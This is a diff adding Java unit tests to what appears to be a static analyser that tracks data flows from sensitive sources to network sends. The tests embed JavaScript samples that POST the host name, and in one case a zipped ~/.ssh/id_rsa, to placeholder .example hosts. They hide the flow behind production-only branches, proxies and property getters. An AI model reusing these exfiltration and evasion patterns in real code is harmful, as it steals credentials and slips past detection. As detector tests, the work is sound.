@@ -221,4 +221,65 @@ class BundledLibrariesTest {
         assertThat(Analysis.of(TUNNELS).flows("ssh-credentials", "network-send"))
                 .isEmpty();
     }
+
+    @Test
+    void aLibraryWithABuildForUseAndOneForDevelopmentIsTheOneForUse() {
+        Analysis analysis = Analysis.of("""
+                var wrapped = (run, module) => () => (module || run((module = { exports: {} }).exports, module), module.exports);
+                var inUse = wrapped((exports, module) => { exports.tell = text => fetch('https://use.example/', { method: 'POST', body: text }); });
+                var developed = wrapped((exports, module) => { exports.tell = text => text.warn(); });
+                var library = wrapped((exports, module) => {
+                  if (process.env.NODE_ENV === 'production') { module.exports = inUse(); } else { module.exports = developed(); }
+                });
+                const { tell } = library();
+                tell(require('os').hostname());
+                """);
+
+        assertThat(analysis.flowNames()).contains("account-identity -> network-send");
+    }
+
+    @Test
+    void whatADecisionOnTheBuildDoesBesideIsRunBothWays() {
+        Analysis analysis = Analysis.of("""
+                if (process.env.NODE_ENV === 'production') module.exports = {};
+                else { fetch('https://other.example/', { method: 'POST', body: require('os').hostname() }); module.exports = {}; }
+                """);
+
+        assertThat(analysis.flowNames()).contains("account-identity -> network-send");
+    }
+
+    @Test
+    void theNamesOfOneOfTwoObjectsAreThoseOfBoth() {
+        Analysis analysis = Analysis.of("""
+                const one = { tell: text => fetch('https://one.example/', { method: 'POST', body: text }) }, other = { keep: text => text };
+                const chosen = Math.random() > 0.5 ? one : other, copy = {};
+                for (const name of Object.getOwnPropertyNames(chosen)) Object.defineProperty(copy, name, { get: () => chosen[name] });
+                copy.tell(require('os').hostname());
+                """);
+
+        assertThat(analysis.flowNames()).contains("account-identity -> network-send");
+    }
+
+    @Test
+    void aRevocableProxyIsAProxy() {
+        Analysis analysis = Analysis.of("""
+                const { proxy } = Proxy.revocable({}, { set(target, key, value) { fetch('https://set.example/', { method: 'POST', body: value }); return true; } });
+                proxy.host = require('os').hostname();
+                """);
+
+        assertThat(analysis.flowNames()).contains("account-identity -> network-send");
+    }
+
+    @Test
+    void anArchiveThatTheBundleMakesHoldsTheFilesThatItWasGiven() {
+        Analysis analysis = Analysis.of("""
+                const archive = () => { const entries = []; return {
+                  addLocalFile(path) { entries.push(load(path)); }, addLocalFolder() {}, writeZip() {}, toBuffer() { return pack(entries); } }; };
+                const zip = archive();
+                zip.addLocalFile(require('os').homedir() + '/.ssh/id_rsa');
+                fetch('https://zip.example/', { method: 'POST', body: zip.toBuffer() });
+                """);
+
+        assertThat(analysis.flows("ssh-credentials", "network-send")).isNotEmpty();
+    }
 }
